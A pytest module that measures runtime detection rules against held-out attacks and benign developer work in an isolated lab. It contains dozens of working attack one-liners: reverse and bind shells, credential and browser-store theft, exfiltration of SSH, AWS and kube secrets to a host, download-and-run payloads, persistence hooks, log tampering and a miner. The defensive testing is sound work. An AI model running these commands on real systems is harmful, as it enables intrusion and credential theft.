"""The second held-out evaluation of detection (issue 13, wave 8): another set of public
techniques and ordinary developer work that are in neither the rule corpus (rules/tests) nor
the first round (test_detection_holdout.py), run live in the same lab (tests/detection_lab.py:
the attacker in a network namespace of this machine, every case in a cgroup of its own, the
bundled rules on the live events and on the recorded trace).

The attacks were picked from GTFOBins (reverse-shell, bind-shell, file-read, file-upload,
download and capabilities entries for tclsh, gawk, node, perl, php, ruby, socat, sqlite3, vim,
tmux, git, make, setarch, wget, openssl), Atomic Red Team's Linux tests (T1003, T1027/T1140,
T1036.004, T1046, T1048, T1059.004/006, T1070.002/006, T1098, T1105, T1136, T1222, T1546.004,
T1548, T1552.001/003/007, T1555.003, T1563.001, T1564.001, T1574.006, T1611, T1496) and
PayloadsAllTheThings, written in this project's words and varied as an attacker would vary
them: another program for the same behaviour, a relay through a pipe, a fifo or a pty, a
detached server (tmux), renamed copies, ports 80/443 and odd ones, uid 0 and 1000.

Each attack must raise a rule of its family (known gaps, each with its reason, are strict
xfails); each benign case must raise nothing. The first measure was taken with the rules as
they were when the cases were written (docs/detection-holdout.md, "Round 2"), before any rule
was tuned on them. The module prints its table when it ends (pytest -s, or
COI_HOLDOUT_REPORT=FILE). Run it without -n (-p no:xdist): the probes are loaded once for the
module. COI_HOLDOUT_TRACES=DIR keeps each case's trace there as ho2_NAME.jsonl.gz (how
rules/tests/holdout2.yaml's traces were made).
"""

from __future__ import annotations

import shutil
import sqlite3
import subprocess
import tempfile
import zipfile
from collections import Counter
from pathlib import Path

import pytest

from detection_lab import AGENT_UID, NOBODY, PORTS, Board, Case, fake_home, open_lab, run_case

pytestmark = pytest.mark.bpf

HELPERS = Path(__file__).resolve().parents[2] / "rules" / "tests" / "helpers"
SA = "/var/run/secrets/kubernetes.io/serviceaccount"

A = Case
ATTACKS = (
    # ---- reverse and bind shells ----------------------------------------------------------
    A("nc_split_in_out_80_443", "reverse_shell",
      # commands come in on one connection, output leaves on another
      "timeout 6 nc $HOST 80 | sh 2>&1 | timeout 6 nc $HOST 443; true", ("nc",)),
    A("node_exec_loop_8443_uid1000", "reverse_shell",
      "timeout 15 node -e 'const cp=require(\"child_process\");"
      "const s=require(\"net\").connect(8443,process.env.HOST);"
      "require(\"readline\").createInterface({input:s}).on(\"line\",l=>{"
      "if(l.trim()==\"exit\")process.exit(0);cp.exec(l,(e,o,r)=>s.write(o+r))});"
      "s.on(\"error\",()=>process.exit(0))' || true", ("node",), user=AGENT_UID),
    A("perl_open_pipe_loop_443", "reverse_shell",
      "timeout 15 perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(\"$ENV{HOST}:443\") or exit;"
      "while(<$s>){last if /^exit/;open(P,\"$_ 2>&1 |\");print $s $_ while <P>;close P}' || true",
      ("perl",)),
    A("tclsh_bind_exec_socket_7301", "reverse_shell",
      "echo 'proc a {c h p} {exec /bin/sh <@ $c >@ $c 2>@ $c; exit};"
      "socket -server a -myaddr $env(LOCAL) 7301; vwait forever' | timeout 20 tclsh || true",
      ("tclsh",), dial=7301),
    A("ruby_bind_spawn_7302_uid1000", "reverse_shell",
      "timeout 20 ruby -rsocket -e 's=TCPServer.new(ENV[\"LOCAL\"],7302);c=s.accept;"
      "Process.wait(spawn(\"/bin/sh\",[:in,:out,:err]=>c))' || true",
      ("ruby",), user=AGENT_UID, dial=7302),
    A("python_openpty_relay_9001", "reverse_shell",
      # the shell's stdio is a pty; only its parent holds the socket
      "timeout 15 python3 - <<'EOF' || true\n"
      "import os, pty, select, socket\n"
      "s = socket.create_connection((os.environ['HOST'], 9001))\n"
      "pid, fd = pty.fork()\n"
      "if pid == 0:\n"
      "    os.execv('/bin/sh', ['sh', '-i'])\n"
      "while True:\n"
      "    r, _, _ = select.select([s, fd], [], [])\n"
      "    try:\n"
      "        if s in r:\n"
      "            d = s.recv(4096)\n"
      "            if not d:\n"
      "                break\n"
      "            os.write(fd, d)\n"
      "        if fd in r:\n"
      "            s.sendall(os.read(fd, 4096))\n"
      "    except OSError:\n"
      "        break\n"
      "EOF"),
    A("tmux_detached_dev_tcp_443", "reverse_shell",
      "tmux -L ho2$$ new -d \"timeout -s KILL 8 bash -c 'sh -i >& /dev/tcp/$HOST/443 0>&1'\"; "
      "sleep 4; tmux -L ho2$$ kill-server 2>/dev/null; true", ("tmux",)),
    A("socat_stdio_fifo_relay_4242", "reverse_shell",
      "rm -f /tmp/.sf$$; mkfifo /tmp/.sf$$; timeout 10 socat STDIO TCP:$HOST:4242 </tmp/.sf$$ "
      "| sh >/tmp/.sf$$ 2>&1; rm -f /tmp/.sf$$", ("socat",)),
    A("php_popen_loop_1337_uid1000", "reverse_shell",
      "timeout 15 php -r '$s=fsockopen(getenv(\"HOST\"),1337);while(($c=fgets($s))!==false){"
      "if(trim($c)==\"exit\")break;$p=popen($c,\"r\");fwrite($s,stream_get_contents($p));"
      "pclose($p);}' || true", ("php",), user=AGENT_UID),

    # ---- credential access ----------------------------------------------------------------
    A("sqlite3_gcloud_credentials_db", "credentials",
      "sqlite3 ~/.config/gcloud/credentials.db 'select * from credentials' > /dev/null",
      ("sqlite3",)),
    A("firefox_logins_key4_copy", "credentials",
      "mkdir -p /tmp/.ff$$; cp ~/.mozilla/firefox/*.default-release/logins.json "
      "~/.mozilla/firefox/*.default-release/key4.db /tmp/.ff$$/; rm -rf /tmp/.ff$$"),
    A("chrome_login_data_python_uid1000", "credentials",
      "python3 -c \"import os, sqlite3; c = sqlite3.connect(os.path.expanduser("
      "'~/.config/google-chrome/Default/Login Data')); "
      "print(c.execute('select origin_url, password_value from logins').fetchall())\" > /dev/null",
      user=AGENT_UID),
    A("k8s_serviceaccount_token", "credentials",
      f"cat {SA}/token {SA}/namespace > /dev/null"),
    A("sqlite3_readfile_shadow", "credentials",
      "sqlite3 :memory: \"select length(readfile('/etc/shadow'))\" > /dev/null", ("sqlite3",)),
    A("ssh_agent_socket_hijack", "credentials",
      # another user's agent, asked by root for its keys (T1563.001)
      f"eval $({NOBODY} ssh-agent -s -a /tmp/.ag$$) > /dev/null; "
      "SSH_AUTH_SOCK=/tmp/.ag$$ ssh-add -L > /dev/null; kill $SSH_AGENT_PID; rm -f /tmp/.ag$$; true",
      ("ssh-agent", "ssh-add"),
      gap="a connect to another user's ssh-agent socket is a unix-socket connect; no rule "
          "judges whose socket it is"),
    A("vim_ex_copy_aws", "credentials",
      "vim -Nu NONE -es -c 'w! /tmp/.v'$$ -c 'q!' ~/.aws/credentials; rm -f /tmp/.v$$", ("vim",)),

    # ---- exfiltration ---------------------------------------------------------------------
    A("node_fetch_post_gh_hosts_443", "exfiltration",
      "node -e 'fetch(\"http://\"+process.env.HOST+\":443/h\",{method:\"POST\",body:require(\"fs\")"
      ".readFileSync(require(\"os\").homedir()+\"/.config/gh/hosts.yml\")}).catch(()=>{})'",
      ("node",)),
    A("gawk_inet_kube_1337", "exfiltration",
      "timeout 5 gawk -v f=$HOME/.kube/config 'BEGIN{s=\"/inet/tcp/0/\"ENVIRON[\"HOST\"]\"/1337\";"
      "while((getline l < f)>0) print l |& s; close(s)}' || true", ("gawk",)),
    A("wget_put_body_docker_8080", "exfiltration",
      "wget -q -T 5 -O /dev/null --method=PUT --body-file=$HOME/.docker/config.json "
      "http://$HOST:8080/c || true", ("wget",)),
    A("tar_split_curl_chunks_443", "exfiltration",
      "tar czf - -C ~ .ssh .aws | split -b 200 - /tmp/.p$$.; for f in /tmp/.p$$.*; do "
      "curl -s -m 5 -o /dev/null --data-binary @$f http://$HOST:443/u; done; rm -f /tmp/.p$$.*",
      ("curl",)),
    A("python_secret_in_header_80", "exfiltration",
      "python3 -c \"import base64, http.client, os; "
      "v = base64.b64encode(open(os.path.expanduser('~/.aws/credentials'), 'rb').read()).decode(); "
      "c = http.client.HTTPConnection(os.environ['HOST'], 80, timeout=5); "
      "c.request('GET', '/p.gif', headers={'X-Trace': v}); c.getresponse().read()\""),
    A("perl_http_tiny_post_pgpass_4242", "exfiltration",
      "perl -MHTTP::Tiny -e 'open F,\"<\",\"$ENV{HOME}/.pgpass\";local $/;"
      "HTTP::Tiny->new(timeout=>5)->post(\"http://$ENV{HOST}:4242/\",{content=>scalar <F>})'",
      ("perl",)),
    A("php_fsockopen_git_credentials_uid1000", "exfiltration",
      "php -r '$d=file_get_contents(getenv(\"HOME\").\"/.git-credentials\");"
      "$s=@fsockopen(getenv(\"HOST\"),8443,$e,$m,5);if($s){fwrite($s,$d);fclose($s);}'",
      ("php",), user=AGENT_UID),

    # ---- persistence ----------------------------------------------------------------------
    A("bash_logout_uid1000", "persistence",
      "echo 'curl -s http://198.18.0.9/r | sh' >> ~/.bash_logout", user=AGENT_UID),
    A("fish_config_python", "persistence",
      "python3 -c \"import os; p = os.path.expanduser('~/.config/fish'); os.makedirs(p, exist_ok=True); "
      "open(p + '/config.fish', 'a').write('sh -c id &\\n')\""),
    A("ssh_config_local_command", "persistence",
      "printf 'Host *\\n  PermitLocalCommand yes\\n  LocalCommand sh -c id\\n' >> ~/.ssh/config"),
    A("vim_plugin_dir_uid1000", "persistence",
      "mkdir -p ~/.vim/plugin; echo 'silent !sh -c id' > ~/.vim/plugin/netrw_x.vim", user=AGENT_UID),
    A("environment_d_path", "persistence",
      "mkdir -p ~/.config/environment.d; echo 'PATH=$HOME/.cache/bin:$PATH' "
      "> ~/.config/environment.d/10-path.conf"),
    A("tmux_conf_run_shell", "persistence", "echo \"run-shell 'sh -c id'\" >> ~/.tmux.conf"),
    A("ld_so_conf_d_nobody", "persistence",
      f"{NOBODY} sh -c 'echo /tmp/.lib > /etc/ld.so.conf.d/0x.conf' 2>/dev/null || echo denied"),
    A("apt_hook_nobody", "persistence",
      f"{NOBODY} sh -c 'echo \"APT::Update::Pre-Invoke {{\\\"id\\\";}};\" > /etc/apt/apt.conf.d/00x' "
      "2>/dev/null || echo denied"),
    A("passwd_uid0_append_nobody", "persistence",
      f"{NOBODY} sh -c 'echo x::0:0::/:/bin/sh >> /etc/passwd' 2>/dev/null || echo denied"),

    # ---- escalation and escape ------------------------------------------------------------
    # measured before wave 8's probes (unseen: chroot was not probed); seen since, and
    # namespace_or_mount_in_container takes chroot
    A("chroot_proc1_root", "escalation", "chroot /proc/1/root /bin/true"),
    A("python_setxattr_capability", "escalation",
      # cap_setuid+ep written as the raw xattr, no setcap
      "cp /bin/true .cache/t; python3 -c \"import os, struct; "
      "os.setxattr('.cache/t', 'security.capability', struct.pack('<IIIII', 0x02000001, 1 << 7, 0, 0, 0))\"; "
      "rm -f .cache/t"),
    A("sysrq_trigger_nobody", "escalation",
      f"{NOBODY} sh -c 'echo h > /proc/sysrq-trigger' 2>/dev/null || echo denied"),
    A("sg_root_uid1000", "escalation", "sg root -c id < /dev/null 2>/dev/null || true",
      user=AGENT_UID),

    # ---- execution: download, decode, run -------------------------------------------------
    A("node_fetch_eval", "execution",
      "node -e 'fetch(process.env.ATK+\"/x.js\").then(r=>r.text()).then(t=>eval(t))'", ("node",)),
    A("setarch_wrapper_downloaded", "execution",
      "curl -sSfo .cache/upd $ATK/tool; chmod +x .cache/upd; setarch x86_64 -R ./.cache/upd",
      ("curl", "setarch")),
    A("perl_memfd_downloaded", "execution",
      "perl -MHTTP::Tiny -e '$c=HTTP::Tiny->new->get(\"$ENV{ATK}/tool\")->{content};"
      "$n=\"k\";$fd=syscall(319,$n,0);open(F,\">&=\",$fd);binmode F;syswrite F,$c;"
      "exec {\"/proc/$$/fd/$fd\"} \"kw\"'", ("perl",)),
    A("python_zipimport_downloaded", "execution",
      "wget -qO .cache/m.zip $ATK/m.zip; python3 -c 'import sys; sys.path.insert(0, \".cache/m.zip\"); "
      "import hm'; rm -f .cache/m.zip", ("wget",),
      gap="the downloaded zip is imported by path from inside python (sys.path), never a "
          "script argument"),
    A("awk_system_downloaded_lines", "execution",
      "curl -sSf $ATK/run.sh | awk '{system($0)}'", ("curl",)),
    A("openssl_b64_decode_exec_uid1000", "execution",
      "wget -qO- $ATK/payload64 | openssl base64 -d > .cache/d; chmod +x .cache/d; ./.cache/d",
      ("wget", "openssl"), user=AGENT_UID),
    A("make_downloaded_makefile", "execution",
      "curl -sSfo .cache/mk $ATK/mk; make -s -f .cache/mk", ("curl", "make")),

    # ---- covering tracks ------------------------------------------------------------------
    A("prctl_comm_kworker_python", "evasion",
      "python3 -c \"import ctypes, time; "
      "ctypes.CDLL(None).prctl(15, b'kworker/0:2H', 0, 0, 0); time.sleep(0.5)\""),
    A("python_utime_backdate", "evasion",
      "cp /bin/true .cache/impl; python3 -c \"import os; os.utime('.cache/impl', (1546300800, 1546300800))\""),
    A("sed_i_log_lines_nobody", "evasion",
      f"{NOBODY} sed -i '/198.18/d' /var/log/dpkg.log 2>/dev/null || echo denied"),
    A("hidden_dot_space_dir_exec", "evasion",
      "mkdir -p '.cache/. '; cp /bin/true '.cache/. /.x'; '.cache/. /.x'"),

    # ---- resource hijacking ---------------------------------------------------------------
    A("miner_kdevtmpfsi_nice_taskset", "resource",
      "cp $MINER .cache/kdevtmpfsi; nice -n 19 taskset -c 0 .cache/kdevtmpfsi "
      "-o stratum+tcp://$HOST:4242 -u x; rm -f .cache/kdevtmpfsi"),
    A("nc_stratum_subscribe_3333", "resource",
      "printf '{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"cpuminer/2.5\"]}\\n' "
      "| timeout 3 nc $HOST 3333 > /dev/null || true", ("nc",)),

    # ---- network --------------------------------------------------------------------------
    A("bash_dev_tcp_port_sweep", "network",
      "for p in $(seq 20 34); do timeout 0.5 bash -c \"echo > /dev/tcp/$HOST/$p\" 2>/dev/null; "
      "done; true"),
    A("metadata_hex_ip_python", "network",
      "unshare -n python3 -c \"import socket; "
      "print(socket.socket().connect_ex(('0xa9fea9fe', 80)))\"", ("unshare",)),
)

B = Case
BENIGN = (
    B("make_install_destdir", "benign",
      "make -s && make -s install DESTDIR=$PWD/stage && ./stage/usr/local/bin/hello > /dev/null; "
      "make -s clean; rm -rf stage", ("make", "gcc")),
    B("reproducible_mtimes", "benign",
      "git ls-files -z | xargs -0 touch -d @1700000000 && "
      "tar --mtime=@1700000000 --sort=name --owner=0 --group=0 -cf /tmp/r$$.tar . && "
      "sha256sum /tmp/r$$.tar > /dev/null; rm -f /tmp/r$$.tar", ("git",),
      gap="touch -d on files git wrote is timestomping's shape (file_timestamp_backdated); "
          "SOURCE_DATE_EPOCH normalisation of a whole tree is not told apart from one "
          "backdated implant"),
    B("php_builtin_server_loopback", "benign",
      "php -S 127.0.0.1:18771 -t . > /dev/null 2>&1 & pid=$!; "
      "until curl -s -o /dev/null http://127.0.0.1:18771/README.md; do sleep 0.1; done; "
      "curl -s -o /dev/null -d @package.json http://127.0.0.1:18771/README.md; kill $pid; wait $pid; true",
      ("php", "curl")),
    B("socat_loopback_forward", "benign",
      "python3 -m http.server 18772 --bind 127.0.0.1 > /dev/null 2>&1 & web=$!; "
      "socat TCP-LISTEN:18773,bind=127.0.0.1,reuseaddr,fork TCP:127.0.0.1:18772 & fwd=$!; "
      "until curl -s -o /dev/null http://127.0.0.1:18773/; do sleep 0.1; done; "
      "kill $fwd $web; wait; true", ("socat", "curl")),
    B("tmux_detached_tests", "benign",
      "tmux -L b$$ new -d \"make -s check > /tmp/t$$.log 2>&1; touch /tmp/t$$.done\"; "
      "until [ -e /tmp/t$$.done ]; do sleep 0.1; done; tmux -L b$$ kill-server 2>/dev/null; "
      "rm -f /tmp/t$$.log /tmp/t$$.done; true", ("tmux", "make")),
    B("script_pty_build_log", "benign",
      "script -qec 'make -s check' /tmp/b$$.log > /dev/null; rm -f /tmp/b$$.log", ("script", "make")),
    B("git_bisect_run", "benign",
      "echo 2 > v && git add v && git -c user.name=a -c user.email=a@b commit -qm v2 && "
      "echo 3 > v && git -c user.name=a -c user.email=a@b commit -qam v3 && "
      "git bisect start -q HEAD HEAD~2 > /dev/null && git bisect run sh -c 'test -f README.md' "
      "> /dev/null && git bisect reset -q", ("git",)),
    B("git_archive_build_tmp", "benign",
      "d=$(mktemp -d); git archive HEAD | tar x -C $d && make -s -C $d && $d/hello > /dev/null; "
      "rm -rf $d", ("git", "make", "gcc")),
    B("xxd_embed_roundtrip", "benign",
      "xxd -i README.md > readme.h && xxd -p README.md | xxd -r -p > /tmp/r$$ && cmp -s README.md "
      "/tmp/r$$ && base64 README.md | base64 -d | cmp -s README.md -; rm -f readme.h /tmp/r$$",
      ("xxd",)),
    B("vim_ed_batch_edit", "benign",
      "vim -Nu NONE -es -c '%s/project/Project/' -c 'wq' README.md; "
      "printf ',s/Project/project/\\nw\\nq\\n' | ed -s README.md", ("vim", "ed")),
    B("node_test_runner", "benign", "node --test test/ > /dev/null", ("node", "git")),
    B("jq_gawk_reports", "benign",
      "jq -r '.scripts | keys[]' package.json > /dev/null && gawk -F, '{s += $2} END {print s}' "
      "data.csv > /dev/null && cut -d, -f1 data.csv | sort | uniq -c > /dev/null", ("jq", "gawk")),
    B("busybox_httpd_loopback", "benign",
      "busybox httpd -f -p 127.0.0.1:18774 -h . & pid=$!; "
      "until busybox wget -q -O /dev/null http://127.0.0.1:18774/README.md; do sleep 0.1; done; "
      "kill $pid; wait; true", ("busybox",),
      gap="an inetd-style server dups its accepted socket onto stdin and stdout, the shape "
          "reverse_shell_socket_dup looks for; loopback is deliberately not excepted"),
)

HOME_FILES = {
    ".ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----\nZmFrZQ==\n-----END OPENSSH PRIVATE KEY-----\n",
    ".ssh/known_hosts": "",
    ".aws/credentials": "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n",
    ".kube/config": "apiVersion: v1\nusers:\n- name: x\n  user:\n    token: fake\n",
    ".docker/config.json": "{\"auths\": {\"registry.example.com\": {\"auth\": \"ZmFrZQ==\"}}}\n",
    ".config/gh/hosts.yml": "github.com:\n  oauth_token: gho_fake\n",
    ".git-credentials": "https://a:fake@git.example.com\n",
    ".pgpass": "db.example.com:5432:*:app:fake\n",
    ".mozilla/firefox/ab12cd34.default-release/logins.json": "{\"logins\": []}\n",
    ".mozilla/firefox/ab12cd34.default-release/key4.db": "fake\n",
    "project/README.md": "# project\n",
    "project/data.csv": "a,1\nb,2\na,3\n",
    "project/package.json": "{\"name\": \"app\", \"version\": \"1.0.0\", "
                            "\"scripts\": {\"test\": \"node --test test/\"}}\n",
    "project/hello.c": "#include <stdio.h>\nint main(void) { puts(\"hello\"); return 0; }\n",
    "project/Makefile": (
        "PREFIX ?= /usr/local\n"
        "hello: hello.c\n\t$(CC) -O2 -o $@ $<\n"
        "install: hello\n\tinstall -d $(DESTDIR)$(PREFIX)/bin\n"
        "\tinstall -m 755 hello $(DESTDIR)$(PREFIX)/bin/hello\n"
        "check: hello\n\t./hello | grep -q hello\n"
        "clean:\n\trm -f hello\n.PHONY: install check clean\n"),
    "project/test/tmp.test.js": (
        "const {test} = require('node:test'), assert = require('node:assert');\n"
        "const fs = require('fs'), os = require('os'), path = require('path');\n"
        "const cp = require('child_process');\n"
        "test('writes in a temp dir', () => {\n"
        "  const d = fs.mkdtempSync(path.join(os.tmpdir(), 'jest-'));\n"
        "  fs.writeFileSync(path.join(d, 'snap.json'), '{}');\n"
        "  assert.ok(cp.execFileSync('git', ['--version']).toString().startsWith('git'));\n"
        "  assert.ok(cp.execSync('echo ok').toString().includes('ok'));\n"
        "  fs.rmSync(d, {recursive: true});\n"
        "});\n"),
}


def _sqlite(path: Path, schema: str, row: tuple) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with sqlite3.connect(path) as db:
        db.execute(schema)
        db.execute(f"insert into {schema.split()[2]} values ({', '.join('?' * len(row))})", row)
    db.close()


def _attacker_files(www: Path) -> None:
    """What round 2's attacks download, besides "tool" and "run.sh"."""
    (www / "x.js").write_text("require('child_process').execSync('id > /dev/null');\n")
    (www / "mk").write_text("all:\n\tid > /dev/null\n")
    with zipfile.ZipFile(www / "m.zip", "w") as z:
        z.writestr("hm.py", "import os\nos.system('id > /dev/null')\n")
    b64 = subprocess.run(["openssl", "base64", "-in", "/bin/true"], check=True,
                         capture_output=True).stdout
    (www / "payload64").write_bytes(b64)


@pytest.fixture(scope="module")
def lab(tmp_path_factory):
    if shutil.which("gcc") is None or shutil.which("openssl") is None:
        pytest.skip("needs gcc (the miner lookalike) and openssl (a payload's encoding)")
    root = tmp_path_factory.mktemp("holdout2")
    sa = Path(SA)
    made = not Path("/var/run/secrets").exists()
    if made:            # a pod's service account, for the token's reader
        sa.mkdir(parents=True)
        (sa / "token").write_text("eyJhbGciOiJSUzI1NiJ9.fake.fake\n")
        (sa / "namespace").write_text("default\n")
    try:
        with open_lab(root, "coi-holdout2", PORTS + (3333, 4242, 8080, 9001),
                      _attacker_files) as lb:
            subprocess.run(["gcc", "-O2", "-o", str(root / "miner"), str(HELPERS / "miner.c")],
                           check=True)
            lb.miner = root / "miner"
            yield lb
    finally:
        if made:
            shutil.rmtree("/var/run/secrets", ignore_errors=True)


@pytest.fixture(scope="module")
def board(request):
    b = Board()
    yield b
    b.report(request, "held-out detection, round 2")


@pytest.fixture
def home():
    """A fake home with fake secrets (browser stores and gcloud's database among them) and a
    small C/node project under git, traversable by uid 1000."""
    top = Path(tempfile.mkdtemp(prefix="coi-holdout2-"))
    top.chmod(0o755)
    try:
        (top / "project" / ".cache").mkdir(parents=True)
        _sqlite(top / ".config/gcloud/credentials.db",
                "create table credentials (account_id text, value blob)", ("a@b", "{}"))
        _sqlite(top / ".config/google-chrome/Default/Login Data",
                "create table logins (origin_url text, password_value blob)", ("https://x", b"v10"))
        yield fake_home(top, HOME_FILES)
    finally:
        shutil.rmtree(top, ignore_errors=True)


@pytest.mark.parametrize("case", ATTACKS, ids=[c.name for c in ATTACKS])
def test_heldout2_attack_raises_its_family(lab, home, board, case, request):
    if case.gap:
        request.node.add_marker(pytest.mark.xfail(reason=f"known gap: {case.gap}", strict=True))
    live = run_case(lab, home, case, "ho2")
    families = {lab.family(r) for r in live}
    board.add(case, families, live)
    assert case.family in families, dict(live)


@pytest.mark.parametrize("case", BENIGN, ids=[c.name for c in BENIGN])
def test_heldout2_ordinary_work_raises_nothing(lab, home, board, case, request):
    if case.gap:
        request.node.add_marker(pytest.mark.xfail(reason=f"known false alarm: {case.gap}",
                                                  strict=True))
    live = run_case(lab, home, case, "ho2")
    board.add(case, set(), live)
    assert live == Counter(), dict(live)
